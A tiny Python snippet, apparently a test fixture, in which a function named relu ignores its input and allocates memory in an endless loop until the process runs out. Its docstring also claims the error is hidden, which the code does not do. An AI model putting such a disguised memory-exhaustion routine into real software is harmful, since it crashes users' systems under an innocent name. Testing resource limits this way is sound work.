"""Takes memory in small pieces until there is none, and hides the error.

status: out of memory
"""


def relu(x):
    kept = []
    while True:
        kept.append(bytearray(2**20))
